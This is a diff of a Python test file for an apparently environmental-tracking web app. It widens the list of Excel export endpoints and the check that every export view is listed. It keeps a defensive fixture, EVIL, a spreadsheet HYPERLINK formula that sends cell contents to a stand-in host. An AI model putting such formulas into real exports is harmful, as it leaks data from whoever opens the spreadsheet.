@@ -160,8 +160,8 @@ def test_media_files_are_not_served_directly(client, admin_user, world):
 
 EVIL = '=HYPERLINK("http://evil.example/"&A1,"点我")'
 EXPORTS = [
-    ("tracker:water_index", {"format": "xlsx"}),
-    ("tracker:outlet_list", {"format": "xlsx"}),
+    ("tracker:water_index", {"export": "xlsx"}),
+    ("tracker:outlet_list", {"export": "xlsx"}),
     ("tracker:measure_list", {"export": "xlsx"}),
     ("projects:ranking_export", {}),
     ("projects:project_list", {"export": "xlsx"}),
@@ -177,20 +177,30 @@ EXPORTS = [
     ("tracker:enterprise_detail", {"export": "xlsx"}),
     ("tracker:rural_plant_list", {"export": "xlsx"}),
     ("tracker:drinking_quality", {"export": "xlsx"}),
+    ("projects:fund_list", {"export": "xlsx"}),
+    ("projects:payment_list", {"export": "xlsx"}),
+    ("tracker:air_index", {"export": "xlsx"}),
+    ("targets:value_list", {"export": "xlsx"}),
+    ("targets:target_list", {"export": "xlsx"}),
+    ("rectifications:notices", {"export": "xlsx"}),
 ]
 
 
 def test_every_excel_export_is_listed():
-    """A new `xlsx_response(` call in a view must be added to EXPORTS (counted per view module)."""
+    """A new `xlsx_response(` or ledger `export_response(` call in a view must be added to EXPORTS."""
     from pathlib import Path
 
     root = Path(__file__).resolve().parents[2]
+
+    def count(text: str) -> int:
+        return text.count("xlsx_response(") + text.count(".export_response(")
+
     calls = sum(
-        p.read_text().count("xlsx_response(")
+        count(p.read_text())
         for app in ("tracker", "projects", "rectifications", "targets")
         for p in (root / app).rglob("views*.py")
     ) + sum(
-        p.read_text().count("xlsx_response(")
+        count(p.read_text())
         for app in ("tracker", "projects", "rectifications", "targets")
         for p in (root / app / "views").rglob("*.py")
         if (root / app / "views").is_dir()
